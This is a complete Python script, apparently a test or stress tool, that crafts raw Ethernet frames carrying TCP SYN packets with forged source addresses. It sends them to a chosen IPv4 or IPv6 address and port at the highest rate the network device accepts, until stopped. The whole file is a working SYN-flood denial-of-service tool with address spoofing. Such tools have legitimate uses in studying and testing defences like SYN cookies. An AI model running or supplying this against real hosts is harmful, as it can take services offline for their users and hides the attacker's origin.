#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""flood - SYNs from addresses that nobody has.

flood.py DEVICE HARDWARE-ADDRESS ADDRESS PORT COUNT

SYNs to ADDRESS PORT, at HARDWARE-ADDRESS, each from another address in the network of ADDRESS (a /16 of IPv4, a /64
of IPv6) and another port, as fast as the device takes them: COUNT, and then more, 16 in a millisecond at most, until
SIGTERM. Nobody answers what they bring about.
"""
import itertools
import signal
import socket
import struct
import sys
import time

DEVICE, HARDWARE, ADDRESS, PORT, COUNT = sys.argv[1:]
OPTIONS = b"\x02\x04\x05\xb4\x04\x02\x08\x0a\x00\x00\x00\x01\x00\x00\x00\x00\x01\x03\x03\x07"


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(pseudo, n):
    ports, sequence = (1024 + n % 60000, int(PORT)), n * 7919 & 0xffffffff
    head = struct.pack("!HHIIBBH", *ports, sequence, 0, (20 + len(OPTIONS)) // 4 << 4, 2, 65535)
    pseudo += struct.pack("!BBH", 0, 6, len(head) + 4 + len(OPTIONS))
    return head + struct.pack("!HH", checksum(pseudo + head + bytes(4) + OPTIONS), 0) + OPTIONS


def packet4(to, n):
    source = to[:2] + struct.pack("!H", 0x1000 + n % 0xc000)
    segment = syn(source + to, n)
    head = struct.pack("!BBHHHBB", 0x45, 0, 20 + len(segment), 0, 0x4000, 64, 6)
    return head + struct.pack("!H", checksum(head + bytes(2) + source + to)) + source + to + segment


def packet6(to, n):
    source = to[:8] + struct.pack("!Q", 0x10000 + n)
    segment = syn(source + to, n)
    return struct.pack("!IHBB", 6 << 28, len(segment), 6, 64) + source + to + segment


v6 = ":" in ADDRESS
target = socket.inet_pton(socket.AF_INET6 if v6 else socket.AF_INET, ADDRESS)
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind((DEVICE, 0))
ethernet = bytes.fromhex(HARDWARE.replace(":", "")) + link.getsockname()[4] + (b"\x86\xdd" if v6 else b"\x08\x00")
terminated = []
signal.signal(signal.SIGTERM, lambda *_: terminated.append(True))
for number in itertools.count():
    if number >= int(COUNT) and number % 16 == 0:
        if terminated:
            break
        time.sleep(0.001)
    while True:
        try:
            link.send(ethernet + (packet6 if v6 else packet4)(target, number))
            break
        except OSError:  # the queue is full
            time.sleep(0.001)
